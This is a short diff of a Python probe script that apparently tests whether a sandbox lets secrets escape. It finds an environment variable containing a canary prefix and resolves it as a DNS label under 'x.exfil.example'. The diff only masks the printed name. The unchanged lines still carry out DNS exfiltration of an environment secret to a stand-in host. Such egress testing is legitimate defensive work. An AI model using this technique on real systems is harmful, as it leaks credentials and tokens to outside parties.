@@ -20,10 +20,12 @@ args = sc.start()
 secret = next((v for v in os.environ.values() if args["canaryPrefix"] in v), None)
 label = (secret or args["label"]).lower()[:63]
 name = "%s.x.exfil.example" % label
+# The name is never printed: only what reaches a resolver may carry the label out (the witness decides).
+shown = "<%d-char label>.x.exfil.example" % len(label)
 try:
-    print("getaddrinfo %s: %s" % (name, socket.getaddrinfo(name, 80)[0][4]))
+    print("getaddrinfo %s: %s" % (shown, socket.getaddrinfo(name, 80)[0][4]))
 except OSError as e:
-    print("getaddrinfo %s: %s" % (name, e))
+    print("getaddrinfo %s: %s" % (shown, e))
 servers = []
 try:
     with open("/etc/resolv.conf") as fh:
